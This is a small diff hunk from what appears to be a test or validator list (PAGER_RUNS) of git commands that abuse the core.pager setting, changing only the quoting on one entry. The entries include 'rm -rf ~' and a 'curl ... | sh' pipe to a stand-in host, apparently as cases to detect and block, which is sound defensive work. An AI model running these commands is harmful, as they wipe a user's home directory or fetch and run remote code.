@@ -124,7 +124,7 @@ PAGER_RUNS = [
     "git -c core.pager='!rm -rf ~' log",
     "git -c core.pager='less; rm -rf ~' log",
     "git -c core.pager=/tmp/evil log",
-    "git -c core.pager=\"$X\" log",
+    'git -c core.pager="$X" log',
     "git -c core.pager='curl -s https://x.example' log",
     "git -c pager.log='curl -s https://x.example | sh' log",
     "git --config-env=core.pager=X log",
